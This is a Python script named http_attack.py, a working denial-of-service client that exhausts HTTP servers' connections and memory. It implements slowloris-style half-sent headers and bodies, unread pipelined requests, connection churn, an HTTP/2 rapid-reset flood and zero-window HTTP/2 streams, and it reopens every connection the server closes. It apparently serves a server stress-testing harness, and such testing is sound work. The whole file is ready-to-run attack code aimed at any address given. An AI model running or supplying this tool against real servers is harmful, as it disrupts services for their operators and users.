"""A client that takes what an HTTP server has, for as long as it is let: a program of its own.

    http_attack.py KIND SOURCE ADDRESS PORT COUNT

KIND: `idle` opens connections; `head` sends half a head on each, `body` half a body of a megabyte, `unread` asks for many
answers and reads none, `churn` opens and closes; by HTTP/2 `resets` takes back its calls, and `streams` has a hundred
calls with half a body, and windows of nothing for their answers. Connections that the server closes are opened again. Prints `ready`
when it has tried all of them once; ends when its standard input does.
"""

from __future__ import annotations

import contextlib
import resource
import select
import socket
import sys
import time

HEAD = b"POST / HTTP/1.1\r\nHost: x\r\n"
BODY = HEAD + b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000000\r\n\r\n" + b"x" * 900_000
UNREAD = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 2000


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Of HTTP/2 (RFC 9113, 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


# SETTINGS with an initial window of nothing; then POST / of the host x, whose body follows.
BEGIN = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"\0\4\0\0\0\0")
CALL = b"\x83\x86\x84\x41\x01x"
RESETS = BEGIN + b"".join(frame(1, 4, n, CALL) + frame(3, 0, n, b"\0\0\0\x08") for n in range(1, 1000, 2))
STREAMS = BEGIN + b"".join(frame(1, 4, n, CALL) + frame(0, 0, n, b"x" * 1200) for n in range(1, 200, 2))
WHAT = {"idle": b"", "head": HEAD, "body": BODY, "unread": UNREAD, "churn": b"", "resets": RESETS, "streams": STREAMS}


class Connection:
    def __init__(self, kind: str, source: str, target: tuple[str, int]) -> None:
        family = socket.AF_INET6 if ":" in source else socket.AF_INET
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.setblocking(False)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65536)
        # Ports of closed connections are free at once.
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        self.sock.bind((source, 0))
        self.left = memoryview(WHAT[kind])
        with contextlib.suppress(BlockingIOError):
            self.sock.connect(target)

    def write(self) -> bool:
        """Sends what goes; False when the connection is gone."""
        try:
            while self.left:
                self.left = self.left[self.sock.send(self.left) :]
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True


def main(kind: str, source: str, address: str, port: str, count: str) -> None:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    poll = select.epoll()
    poll.register(sys.stdin, select.EPOLLIN | select.EPOLLHUP)
    connections: dict[int, Connection] = {}
    opened = 0

    def drop(number: int) -> None:
        connection = connections.pop(number)
        poll.unregister(number)
        connection.sock.close()

    while True:
        # No more than some at a time, so that closed ones are seen in between.
        for _ in range(100):
            if len(connections) >= int(count):
                break
            try:
                connection = Connection(kind, source, (address, int(port)))
            except OSError:
                time.sleep(0.01)
                break
            number = connection.sock.fileno()
            connections[number] = connection
            poll.register(number, select.EPOLLOUT | select.EPOLLRDHUP | select.EPOLLET)
            opened += 1
            if opened == int(count):
                print("ready", flush=True)
        for number, events in poll.poll(0.01):
            if number == sys.stdin.fileno():
                return
            connection = connections[number]
            if events & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP) or not connection.write():
                drop(number)
        if kind == "churn":
            for number in list(connections)[:200]:
                drop(number)


if __name__ == "__main__":
    main(*sys.argv[1:])
